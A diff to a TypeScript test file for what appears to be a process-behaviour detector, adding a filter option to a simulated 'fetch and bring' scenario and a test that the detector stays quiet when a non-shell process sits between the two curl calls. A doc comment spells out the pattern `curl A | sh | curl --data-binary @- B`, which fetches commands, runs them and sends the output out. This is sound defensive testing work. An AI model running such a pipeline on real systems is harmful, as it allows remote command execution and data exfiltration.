@@ -95,19 +95,18 @@ test('stays with the shell when the one above it has other ends', () => {
 });
 
 /** `curl A | sh | curl --data-binary @- B`: the second curl begins when the others have ended. */
-function fetchAndBring(from: string, to: string): Scene {
+function fetchAndBring(from: string, to: string, filter = false): Scene {
   const scene = new Scene();
   const curl = { path: '/usr/bin/curl', parentPid: 100 };
   scene.start({ pid: 100, path: '/usr/bin/bash', argv: ['bash', '/opt/sync/poll'], parentPid: 50 });
   scene.start({ ...curl, pid: 101, argv: ['curl', '-s', from], stdio: [nullFd, pipe(1), nullFd], at: 5 });
-  scene.start({
-    pid: 102,
-    parentPid: 100,
-    path: '/usr/bin/dash',
-    argv: ['sh'],
-    stdio: [pipe(1), pipe(2), nullFd],
-    at: 5,
-  });
+  const between = [pipe(1), pipe(2), nullFd] as const;
+  if (filter) {
+    scene.play(makeProcessFork({ time: EPOCH + 5, pid: 102, parentPid: 100 }));
+    between.forEach((fd, slot) => {
+      scene.stdio(102, slot as 0 | 1 | 2, fd, 5);
+    });
+  } else scene.start({ pid: 102, parentPid: 100, path: '/usr/bin/dash', argv: ['sh'], stdio: between, at: 5 });
   scene.start({ ...curl, pid: 103, argv: ['curl', '-s', '-d', '@-', to], stdio: [pipe(2), nullFd, nullFd], at: 5 });
   scene.map(101, 'libcrypto.so.3', 8);
   scene.map(103, 'libcrypto.so.3', 8);
@@ -121,6 +120,10 @@ test('a shell whose commands one program fetches from where another brings its o
   const { last } = fetchAndBring('10.20.0.2', '10.20.0.2');
   assert.equal(last?.actor, keyOf(102));
   assert.match(last?.legs.find(({ leg }) => leg === 'joined-shell')?.reasons[0] ?? '', /by way of \/usr\/bin\/curl/);
+});
+
+test('stays quiet when a loop of a shell only filters what is fetched and brought', () => {
+  assert.deepEqual(fetchAndBring('10.20.0.2', '10.20.0.2', true).verdicts, []);
 });
 
 test('stays quiet when what a fetched script prints is sent to another place', () => {
